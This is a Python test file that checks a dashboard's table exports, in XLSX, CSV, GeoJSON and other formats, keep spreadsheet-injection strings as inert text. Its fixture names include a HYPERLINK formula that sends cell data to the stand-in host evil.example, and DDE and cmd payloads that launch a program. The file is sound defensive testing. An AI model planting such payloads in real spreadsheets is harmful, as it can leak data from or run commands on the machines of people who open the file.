"""Names that a spreadsheet would run, taken through import and all tables: each comes out as the text it was."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import openpyxl
import pytest

from tests import office
from tests.dashboard.cli.city import SIDE, SOUTH, WEST, call_command, collection, square
from tests.dashboard.exports.opened import rows_of

pytestmark = pytest.mark.slow

AREAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Xã An Phú")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Xã Tân Bình;=1+1",
)
CATEGORIES = ("=1+1", '=DDE("cmd";"/C calc";"1")', "-2+3", "@khác", "=HYPERLINK(A1)")


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace of four communes and five categories, each named to be run, from a file named likewise."""
    folder = tmp_path_factory.mktemp("formulas")
    shapes: list[tuple[dict[str, object], object]] = [
        ({"code": f"0{i}", "name": name}, {"type": "Polygon", "coordinates": square(i % 2, i // 2)})
        for i, name in enumerate(AREAS)
    ]
    (folder / "communes.geojson").write_text(collection(*shapes), encoding="utf-8")
    with (folder / "=1+1.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["id", "occurred", "category", "lon", "lat"])
        for i in range(40):
            place = WEST + SIDE * (i % 2 + 0.5), SOUTH + SIDE * (i // 2 % 2 + 0.5)
            writer.writerow([f"={i}", f"2025-01-{i % 28 + 1:02} 10:00", CATEGORIES[i % 5], *place])
    held = folder / "=workspace"
    for step in (
        ("init", held, "--profile", "blank"),
        ("-w", held, "boundaries", "add", folder / "communes.geojson", "--edition", "old", "--level", "commune"),
        ("-w", held, "ingest", folder / "=1+1.csv"),
    ):
        said = call_command(*step)
        assert said.status == 0, said.err
    return held


def written(workspace: Path, out: Path, *options: str) -> Path:
    said = call_command("-w", workspace, "table", "?edition=old", "--out", out, *options)
    assert said.status == 0, said.err
    return out


@pytest.mark.parametrize("options", [(), ("--rows", "incidents"), ("--by", "area,category")])
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(
    workspace: Path, tmp_path: Path, options: tuple[str, ...]
) -> None:
    book = openpyxl.load_workbook(written(workspace, tmp_path / "=table.xlsx", *options))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]
    said = {cell.value for cell in cells if cell.data_type == "s"}
    assert set(AREAS) <= said
    assert not options or set(CATEGORIES) <= said


@pytest.mark.parametrize("options", [(), ("--rows", "incidents"), ("--by", "area,category")])
def test_no_cell_of_a_csv_begins_as_a_formula(workspace: Path, tmp_path: Path, options: tuple[str, ...]) -> None:
    out = written(workspace, tmp_path / "=table.csv", *options)
    for path in (out, out.with_name("=table.facts.csv")):
        for separator in ",;":  # Excel takes the one of the office's language
            with path.open(encoding="utf-8-sig", newline="") as file:
                cells = [cell for row in csv.reader(file, delimiter=separator) for cell in row]
            assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize("options", [(), ("--rows", "incidents")])
def test_libreoffice_shows_the_text_as_it_was(
    workspace: Path, tmp_path: Path, suffix: str, options: tuple[str, ...]
) -> None:
    out = written(workspace, tmp_path / f"table{suffix}", *options)
    (tmp_path / "shown").mkdir()
    text = "Text - txt - csv (StarCalc):44,34,76"  # commas, quotes, UTF-8
    shown = office.converted(out, f"csv:{text}", tmp_path / "shown", read_as=text if suffix == ".csv" else "")
    with shown.open(encoding="utf-8-sig", newline="") as file:
        names = [row["area_name"] for row in csv.DictReader(file)]
    plain = [name.replace(";'", ";").removeprefix("'") for name in names]
    assert set(plain) == set(AREAS)
    if suffix == ".xlsx":
        assert names == plain


@pytest.mark.parametrize("form", ["geojson", "gpkg", "parquet"])
def test_other_formats_keep_every_letter(workspace: Path, tmp_path: Path, form: str) -> None:
    rows = rows_of(written(workspace, tmp_path / f"table.{form}"))
    assert [row["area_name"] for row in rows] == list(AREAS)
    assert "facts_file" in json.loads(
        call_command("-w", workspace, "table", "", "--out", tmp_path / "t.csv", "--json").out
    )
